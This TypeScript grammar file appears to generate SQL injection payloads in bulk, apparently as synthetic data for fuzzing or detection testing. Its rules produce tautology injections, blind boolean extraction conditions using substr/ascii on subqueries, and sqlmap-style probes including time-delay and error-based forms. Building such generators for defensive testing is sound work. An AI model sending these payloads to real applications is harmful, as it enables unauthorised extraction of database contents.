/** Conditions that are always true, tell true from false, or ask a question one bit at a time. */
import {
  bound,
  characters,
  DIGITS,
  integer,
  maybe,
  oneOf,
  type Rule,
  text,
  UPPER_CASE,
  weighted,
  words,
} from '../../grammar.ts';
import { MARKER } from '../hosts.ts';
import { PLAUSIBLE_VALUE, WORD } from '../plausible-values.ts';
import { CLOSING, COMMENT_OUT, delivered, injected, LEAD } from './frame.ts';
import { COLUMN, FOUR_DIGITS, FOUR_LETTERS, NUMBER, QUERY, SERVER_VALUE, sqlString, TABLE } from './vocabulary.ts';

const LOGIC: Rule = weighted(
  [10, 'or'],
  [6, 'and'],
  [2, 'OR'],
  [2, 'AND'],
  [2, '||'],
  [2, '&&'],
  [0.7, 'xor'],
  [0.5, 'or not'],
  [0.5, 'and not'],
);

const TAUTOLOGY: Rule = weighted(
  [8, bound(integer(0, 9999), (number) => text`${number}${words('= = = < >= <=> like')}${number}`)],
  [3, text`${integer(0, 99)}${oneOf('=', '<', '>', '!=', '<>', ' = ', ' > ', ' < ')}${integer(0, 99)}`],
  [4, bound(WORD, (word) => oneOf(`'${word}'='${word}'`, `"${word}"="${word}"`, `'${word}' like '${word}'`))],
  [1, text`${NUMBER} between ${integer(0, 3)} and ${integer(3, 9)}`],
  [1, bound(integer(1, 9), (number) => text`${number} in (${number}${maybe(',2,3')})`)],
  [1, text`${COLUMN} is not null`],
  [1, text`${COLUMN} like '${oneOf('%', '%a%', 'a%', '_%')}'`],
  [1, words('true 1 not(false) !0 ~0 !!1 1=1 true=true 2>1 1<2 (1)=(1) 1=1.0 0x1=1 null<=>null')],
  [0.7, text`${SERVER_VALUE}=${SERVER_VALUE}`],
  [0.6, text`length(${SERVER_VALUE})>0`],
  [0.5, text`'${WORD}' ${words('regexp rlike')} '${oneOf('.*', '^', '[a-z]')}'`],
  [0.5, bound(WORD, (word) => `'${word}'='${word.slice(0, 1)}'+'${word.slice(1)}'`)],
  [0.5, bound(WORD, (word) => `'${word}'='${word.slice(0, 1)}'||'${word.slice(1)}'`)],
  [0.4, text`'${WORD}' > '${words('a 0 t')}'`],
  [0.3, bound(WORD, (word) => `'${word}' in ('${word}')`)],
  [0.3, text`exists(select ${integer(1, 9)})`],
  [0.3, text`ord('a')=97`],
  [0.3, text`'1'='1'`],
);

/** The second half of a comparison whose closing quote the query itself brings. */
const OPEN_ENDED: Rule = bound(oneOf(WORD, integer(0, 99), words("1 a x '' 0")), (same) =>
  weighted(
    [6, text`'${same}'='${same}`],
    [2, text`'${same}' = '${same}`],
    [1, text`'${same}' like '${same}`],
    [1, text`'${same}'<>'${same}x`],
    [0.5, text`${integer(1, 9)}=${integer(1, 9)} and '${same}'='${same}`],
  ),
);
const OPEN_ENDED_DOUBLE: Rule = bound(oneOf(WORD, integer(0, 99), 'a', '1', ''), (same) => `"${same}"="${same}`);

/** `' or 1=1--` and everything as short. */
export const tautology: Rule = delivered(
  weighted(
    [5, injected(text`${LOGIC} ${TAUTOLOGY}`)],
    [3, text`${LEAD}${CLOSING} ${LOGIC} ${TAUTOLOGY}${COMMENT_OUT}`],
    [3, text`${LEAD}' ${LOGIC} ${OPEN_ENDED}`],
    [1.5, text`${LEAD}" ${LOGIC} ${OPEN_ENDED_DOUBLE}`],
    [1, text`${LEAD}') ${LOGIC} (${OPEN_ENDED}`],
    [0.5, text`${LEAD}") ${LOGIC} (${OPEN_ENDED_DOUBLE}`],
    [1, text`${LEAD}${words(`' ' ' "`)}${LOGIC}${words(`' ' ' "`)}${COMMENT_OUT}`],
    [
      1,
      bound(
        oneOf("'", '"'),
        (quote) =>
          text`${LEAD}${quote}${words('|| && or and xor | & ^ - + * = < > <=> like')}${quote}${maybe(COMMENT_OUT)}`,
      ),
    ],
    [
      1,
      bound(
        oneOf("'", '"'),
        (quote) => text`${LEAD}${quote}${words('=0 =1 -0 *1 +0 ^0 |1 ||1 &&1 <1 >-1 !=0 <=>0')}${COMMENT_OUT}`,
      ),
    ],
    [1, text`${LOGIC} ${TAUTOLOGY}${maybe(COMMENT_OUT)}`],
    [0.5, text`${PLAUSIBLE_VALUE}) ${LOGIC} (${TAUTOLOGY}`],
    [0.5, text`${PLAUSIBLE_VALUE})) ${LOGIC} ((${TAUTOLOGY}`],
    [0.5, text`${PLAUSIBLE_VALUE} ${words('or and')} ${TAUTOLOGY} ${words('or and')} ${TAUTOLOGY}`],
  ),
);

const POSITION = integer(1, 30);
const CUT: Rule = oneOf('substring', 'substr', 'mid', 'SUBSTRING', 'SUBSTR', 'MID');
const COMPARED: Rule = text`${oneOf('=', '>', '<', '>=', '!=', ' between 60 and ')}${integer(32, 126)}`;

/** A question with the answer yes or no about the data. */
export const QUESTION: Rule = weighted(
  [4, text`${words('ascii ord ASCII unicode')}(${CUT}((${QUERY}),${POSITION},1))${COMPARED}`],
  [3, text`${CUT}((${QUERY}),${POSITION},1)=${sqlString(characters(`${UPPER_CASE}${DIGITS}`.toLowerCase(), 1))}`],
  [2, text`${CUT}(${SERVER_VALUE},${POSITION},1)=${sqlString(characters(DIGITS, 1))}`],
  [2, text`(${QUERY})${oneOf('=', '>', '<', ' like ', ' is not null and 1=')}${NUMBER}`],
  [2, text`${words('length char_length len')}((${QUERY}))${oneOf('=', '>', '<')}${integer(1, 60)}`],
  [1, text`${words('length len')}(${SERVER_VALUE})${oneOf('=', '>')}${integer(1, 30)}`],
  [2, text`exists(${QUERY})`],
  [1, text`(${QUERY}) ${words('like regexp rlike')} '${oneOf('^', '')}${MARKER}%'`],
  [1, text`${SERVER_VALUE} like '${characters(DIGITS, 1)}%'`],
  [1, text`left((${QUERY}),${POSITION})=${sqlString(MARKER)}`],
  [1, text`${NUMBER}=(select count(*) from ${TABLE})`],
  [0.5, text`instr((${QUERY}),${sqlString(MARKER)})>0`],
  [0.5, text`strcmp(left(${COLUMN},1),${characters(DIGITS, 1)})=-1`],
  [0.5, text`hex(${CUT}((${QUERY}),${POSITION},1))=${integer(30, 79)}`],
  [0.5, text`(${SERVER_VALUE})::text like '%${WORD}%'`],
  [0.5, text`glob('${MARKER}*',(${QUERY}))`],
  [0.5, text`bit_count(${CUT}((${QUERY}),${POSITION},1))&${integer(1, 128)}`],
);

const CHOICE: Rule = oneOf(
  text`if(${QUESTION},${integer(0, 1)},${integer(2, 9)})`,
  text`case when ${QUESTION} then ${integer(0, 1)} else ${oneOf('1/0', integer(2, 9), '(select 1 union select 2)')} end`,
  text`(select (case when (${QUESTION}) then ${integer(1, 9)} else ${integer(0, 1)} end))`,
  text`elt(${QUESTION},${integer(1, 9)})`,
  text`iif(${QUESTION},1,1/0)`,
  text`decode((${QUERY}),${sqlString(MARKER)},1,0)`,
  text`nullif(${CUT}((${QUERY}),1,1),'a')`,
  text`coalesce((${QUERY}),0)`,
  text`greatest(0,(${QUESTION}))`,
);

/** Conditions that ask for a bit of data: `1 and ascii(substr((select …),1,1))>64`. */
export const blind: Rule = delivered(
  weighted(
    [6, injected(text`${LOGIC} ${oneOf(QUESTION, QUESTION, CHOICE, text`${CHOICE}=${integer(0, 1)}`)}`)],
    [1, text`${LEAD}' ${LOGIC} ${QUESTION} ${words('and or')} ${OPEN_ENDED}`],
    [1, text`(${CHOICE})`],
    [1, text`${PLAUSIBLE_VALUE}${oneOf('-', '+', '*', '/', '|', '^', '%2b', ' div ')}(${CHOICE})`],
    [1, text`${COLUMN},${CHOICE}`],
    [1, text`${LEAD}'${oneOf('||', '+', '-', '^', ' + ')}(${CHOICE})${oneOf('||', '+', '-', '^')}'`],
  ),
);

const SQLMAP_END: Rule = bound(FOUR_DIGITS, (number) =>
  weighted(
    [4, `${number}=${number}`],
    [1, text`${FOUR_DIGITS}=${FOUR_DIGITS}`],
    [1, text`(SELECT ${number} FROM ${TABLE} LIMIT 1)=${number}`],
    [
      1,
      text`${number}=(SELECT (CASE WHEN (${number}=${FOUR_DIGITS}) THEN ${number} ELSE (SELECT ${FOUR_DIGITS} UNION SELECT ${FOUR_DIGITS}) END))`,
    ],
    [
      1,
      text`${number} IN (SELECT (CHAR(113)+CHAR(${integer(97, 122)})+(SELECT (CASE WHEN (${number}=${number}) THEN CHAR(49) ELSE CHAR(48) END))))`,
    ],
  ),
);

/** sqlmap's probes: random numbers of four digits, balanced with what it takes the query to be. */
export const sqlmapProbe: Rule = delivered(
  weighted(
    [3, text`${PLAUSIBLE_VALUE} ${words('AND OR')} ${SQLMAP_END}${maybe(text`-- ${FOUR_LETTERS}`)}`],
    [2, text`${PLAUSIBLE_VALUE}) ${words('AND OR')} ${SQLMAP_END} AND (${bound(FOUR_DIGITS, (n) => `${n}=${n}`)}`],
    [2, text`${PLAUSIBLE_VALUE}' ${words('AND OR')} ${SQLMAP_END} AND ${bound(FOUR_LETTERS, (w) => `'${w}'='${w}`)}`],
    [1, text`${PLAUSIBLE_VALUE}') ${words('AND OR')} ${SQLMAP_END} AND (${bound(FOUR_LETTERS, (w) => `'${w}'='${w}`)}`],
    [
      1,
      text`${PLAUSIBLE_VALUE}' ${words('AND OR')} ${SQLMAP_END} AND ${bound(FOUR_LETTERS, (w) => `'${w}' LIKE '${w}`)}`,
    ],
    [1, text`${PLAUSIBLE_VALUE}" ${words('AND OR')} ${SQLMAP_END} AND ${bound(FOUR_LETTERS, (w) => `"${w}"="${w}`)}`],
    [1, text`-${FOUR_DIGITS}${maybe(CLOSING)} OR ${SQLMAP_END}${oneOf('#', '-- ', '-- ')}${FOUR_LETTERS}`],
    [
      1,
      text`(SELECT (CASE WHEN (${SQLMAP_END}) THEN ${PLAUSIBLE_VALUE} ELSE (SELECT ${FOUR_DIGITS} UNION SELECT ${FOUR_DIGITS}) END))`,
    ],
    [
      0.7,
      text`${PLAUSIBLE_VALUE}' RLIKE (SELECT (CASE WHEN (${SQLMAP_END}) THEN 0x${integer(31, 39)} ELSE 0x28 END))-- ${FOUR_LETTERS}`,
    ],
    [0.7, text`IF(${SQLMAP_END},${FOUR_DIGITS},(SELECT ${FOUR_DIGITS} UNION SELECT ${FOUR_DIGITS}))`],
    [0.7, text`MAKE_SET(${SQLMAP_END},${FOUR_DIGITS})`],
    [0.5, text`${PLAUSIBLE_VALUE};SELECT ${FOUR_DIGITS} FROM PG_SLEEP(${integer(2, 9)})--`],
    [0.5, text`${PLAUSIBLE_VALUE} PROCEDURE ANALYSE(EXTRACTVALUE(${FOUR_DIGITS},CONCAT(0x5c,0x71)),1)`],
  ),
);
